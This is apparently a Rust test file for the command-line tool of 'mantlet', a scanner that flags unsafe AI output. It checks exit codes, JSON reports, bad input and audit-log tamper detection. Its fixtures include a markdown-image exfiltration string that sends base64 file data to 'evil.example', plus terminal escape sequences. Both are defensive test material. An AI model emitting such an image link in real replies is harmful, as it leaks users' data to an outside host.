//! The `mantlet` command: formats, exit codes, and what it does with input that is not what it should be.
#![cfg(feature = "cli")]

use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

/// A folder of its own, removed at the end.
struct Folder(PathBuf);

impl Folder {
    fn new(name: &str) -> Folder {
        let path = std::env::temp_dir().join(format!("mantlet-cli-{name}-{}", std::process::id()));
        fs::create_dir_all(&path).unwrap();
        Folder(path)
    }

    fn file(&self, name: &str, content: impl AsRef<[u8]>) -> PathBuf {
        let path = self.0.join(name);
        fs::write(&path, content).unwrap();
        path
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

fn mantlet(arguments: &[&str], stdin: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_mantlet"))
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut pipe = child.stdin.take().unwrap();
    let stdin = stdin.to_vec();
    let writing = std::thread::spawn(move || {
        // A command that refuses its arguments does not read.
        let _ = pipe.write_all(&stdin);
    });
    let output = child.wait_with_output().unwrap();
    writing.join().unwrap();
    output
}

fn code(output: &Output) -> i32 {
    output.status.code().unwrap()
}

fn lines(output: &Output) -> Vec<Value> {
    let text = std::str::from_utf8(&output.stdout).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn path(path: &Path) -> &str {
    path.to_str().unwrap()
}

const IMAGE: &str = "Done. ![x](https://evil.example/p.png?d=Y3VzdG9tZXJzLmNzdg==)";

#[test]
fn scan_says_what_was_found_and_where() {
    let folder = Folder::new("scan");
    let bad = folder.file("bad.txt", format!("First line\n{IMAGE}\n"));
    let good = folder.file("good.txt", "Nothing here.\n");
    let output = mantlet(&["scan", "--stage", "post", path(&good), path(&bad)], b"");
    let text = String::from_utf8(output.stdout.clone()).unwrap();
    assert_eq!(code(&output), 1, "{text}");
    assert!(text.contains("good.txt: allow"), "{text}");
    assert!(text.contains("bad.txt: redact"), "{text}");
    assert!(text.contains("2:7 markdown_image 0.85 (image.data)"), "{text}");
    assert!(text.contains("threshold 0.50"), "{text}");
    assert_eq!(code(&mantlet(&["scan", path(&good)], b"")), 0);
    assert_eq!(code(&mantlet(&["scan", "--stage", "post"], IMAGE.as_bytes())), 1);
}

#[test]
fn scan_in_json_carries_no_text_unless_asked() {
    let output = mantlet(&["scan", "--stage", "post", "--format", "json"], IMAGE.as_bytes());
    assert_eq!(code(&output), 1);
    assert!(!String::from_utf8_lossy(&output.stdout).contains("evil"));
    let report = &lines(&output)[0];
    assert_eq!(report["report"]["verdict"], "redact");
    assert_eq!(report["report"]["origin"], "assistant");
    let asked = mantlet(&["scan", "--stage", "post", "--format", "json", "--show-text"], IMAGE.as_bytes());
    assert_eq!(lines(&asked)[0]["text"], "Done. <MARKDOWN_IMAGE>");
}

#[test]
fn scan_goes_on_after_a_text_that_it_cannot_read() {
    let folder = Folder::new("unreadable");
    let binary = folder.file("binary", b"a\xff\xfeb");
    let good = folder.file("good.txt", "Nothing here.\n");
    let missing = folder.0.join("missing");
    let output = mantlet(&["scan", path(&binary), path(&missing), path(&folder.0), path(&good)], b"");
    assert_eq!(code(&output), 2);
    let errors = String::from_utf8(output.stderr).unwrap();
    assert!(errors.contains("not UTF-8 at byte 1"), "{errors}");
    assert_eq!(errors.lines().count(), 3, "{errors}");
    assert!(String::from_utf8(output.stdout).unwrap().contains("good.txt: allow"));
    assert_eq!(code(&mantlet(&["scan", "--lossy", path(&binary)], b"")), 0);
}

#[test]
fn scan_sends_no_control_sequence_to_the_terminal() {
    let text = format!("\u{1b}]52;c;x\u{7} \u{202e}abc\u{200b} {IMAGE} \u{9b}2J");
    let output = mantlet(&["scan", "--stage", "post"], text.as_bytes());
    let shown = String::from_utf8(output.stdout).unwrap();
    for hidden in ['\u{1b}', '\u{7}', '\u{202e}', '\u{200b}', '\u{9b}'] {
        assert!(!shown.contains(hidden), "{hidden:?} in {shown:?}");
    }
    assert!(shown.contains("\\u{1b}]52;c;x\\u{7}"), "{shown}");
}

#[test]
fn scan_takes_a_guard_and_refuses_one_with_a_typo() {
    let folder = Folder::new("guard");
    let toml = "route = 'r'\n[[pre]]\nevaluator = 'output_safety'\nblock_at = 0.5\n";
    let guard = folder.file("guard.toml", toml);
    let output = mantlet(&["scan", "--guard", path(&guard)], IMAGE.as_bytes());
    assert_eq!(code(&output), 1);
    assert!(String::from_utf8(output.stdout).unwrap().contains("block"));
    let json = folder.file("guard.json", r#"{"route":"r","pre":[{"evaluator":"output_safety"}]}"#);
    assert_eq!(code(&mantlet(&["scan", "--guard", path(&json)], b"hello")), 0);
    for (typo, named) in [("block_at", "blok_at"), ("output_safety", "output_saftey"), ("'r'", "''")] {
        let wrong = folder.file("wrong.toml", toml.replace(typo, named));
        let output = mantlet(&["scan", "--guard", path(&wrong)], b"hello");
        assert_eq!(code(&output), 2);
        let error = String::from_utf8(output.stderr).unwrap();
        assert!(error.contains(if named == "''" { "needs a route" } else { named }), "{error}");
    }
}

/// Lines of all kinds; those at 2, 4, 5, 6 and 7 cannot be scored.
fn rows() -> Vec<u8> {
    let mut rows = Vec::new();
    for row in [
        format!(r#"{{"text":"{IMAGE}","role":"response","extra":[1,2]}}"#).as_bytes(),
        b"not json",
        br#"{"text":"nothing","origin":"web","kind":"benign_document"}"#,
        br#"{"context":"no text"}"#,
        br#"{"text":"x","origin":"nowhere"}"#,
        b"{\"text\":\"\xff\"}",
        "[".repeat(20_000).as_bytes(),
        br#"{"tool":"send","arguments":{"to":"ann"},"user_request":"mail ann"}"#,
    ] {
        rows.extend_from_slice(row);
        rows.push(b'\n');
    }
    rows
}

#[test]
fn score_keeps_the_order_and_names_bad_lines() {
    for threads in ["1", "3"] {
        let output = mantlet(&["score", "--evaluator", "output_safety", "--threads", threads], &rows());
        assert_eq!(code(&output), 2);
        let results = lines(&output);
        assert_eq!(results.len(), 8);
        for (at, result) in results.iter().enumerate() {
            let is_bad = [1, 3, 4, 5, 6].contains(&at);
            assert_eq!(result.get("error").is_some(), is_bad, "{result}");
            if is_bad {
                assert_eq!(result["line"], at + 1);
            }
        }
        assert_eq!(results[0]["verdict"], "redact");
        assert_eq!(results[0]["threshold"], 0.5);
        assert_eq!(results[0]["labels"]["markdown_image"], results[0]["score"]);
        let finding = &results[0]["findings"][0];
        assert_eq!((&finding["label"], &finding["start"]), (&"markdown_image".into(), &6.into()));
        assert_eq!(results[2]["score"], 0.0);
        assert_eq!(results[7]["verdict"], "allow");
    }
}

#[test]
fn score_reads_gzip_and_writes_a_file() {
    let folder = Folder::new("gzip");
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    for number in 0..3_000 {
        let text = if number % 7 == 0 { IMAGE } else { "nothing" };
        writeln!(encoder, r#"{{"text":"{text}"}}"#).unwrap();
    }
    let input = folder.file("rows", encoder.finish().unwrap());
    let result = folder.0.join("out.jsonl");
    let arguments =
        ["score", "--evaluator", "output_safety", "--input", path(&input), "--output", path(&result)];
    let output = mantlet(&[&arguments[..], &["--threads", "4"]].concat(), b"");
    assert_eq!(code(&output), 0, "{}", String::from_utf8_lossy(&output.stderr));
    let text = fs::read_to_string(&result).unwrap();
    let flagged: Vec<bool> = text.lines().map(|line| line.contains("\"redact\"")).collect();
    assert_eq!(flagged, (0..3_000).map(|number| number % 7 == 0).collect::<Vec<_>>());
}

#[test]
fn score_never_writes_over_its_input() {
    let folder = Folder::new("same");
    let file = folder.file("rows.jsonl", "{\"text\":\"precious\"}\n");
    let other = folder.0.join("./rows.jsonl");
    let output =
        mantlet(&["score", "--evaluator", "pii", "--input", path(&file), "--output", path(&other)], b"");
    assert_eq!(code(&output), 2);
    assert_eq!(fs::read_to_string(&file).unwrap(), "{\"text\":\"precious\"}\n");
}

#[test]
fn score_knows_evaluators_that_are_missing_from_those_that_do_not_exist() {
    let missing = mantlet(&["score", "--evaluator", "action_safety"], b"");
    assert_eq!(code(&missing), 2);
    assert!(String::from_utf8(missing.stderr).unwrap().contains("this build does not contain"));
    let unknown = mantlet(&["score", "--evaluator", "promt_injection"], b"");
    assert_eq!(code(&unknown), 2);
    assert!(String::from_utf8(unknown.stderr).unwrap().contains("known are output_safety, pii"));
}

#[test]
fn audit_verify_finds_a_changed_log() {
    use mantlet::audit::{AuditKey, AuditLog};
    use mantlet::{Guard, OutputSafety};
    let folder = Folder::new("audit");
    let key = folder.file("key", [9; 32]);
    let log = folder.0.join("audit.jsonl");
    let audit = AuditLog::file(&log, AuditKey::new(&[9; 32]).unwrap()).rotate_at(2_000).open().unwrap();
    let guard = Guard::builder("chat").post(OutputSafety::new()).observer(audit).build().unwrap();
    for _ in 0..20 {
        guard.check_output("hello");
    }
    drop(guard);
    let verify = || mantlet(&["audit", "verify", path(&log), "--key-file", path(&key)], b"");
    assert_eq!(code(&verify()), 0, "{}", String::from_utf8_lossy(&verify().stdout));
    let first = folder.0.join("audit.jsonl.1");
    let text = fs::read_to_string(&first).unwrap();
    fs::write(&first, text.replacen("\"allow\"", "\"block\"", 1)).unwrap();
    let output = verify();
    assert_eq!(code(&output), 1);
    let said = String::from_utf8(output.stdout).unwrap();
    assert!(said.contains("audit.jsonl.1: line 2"), "{said}");
    fs::remove_file(&key).unwrap();
    assert_eq!(code(&verify()), 2);
}
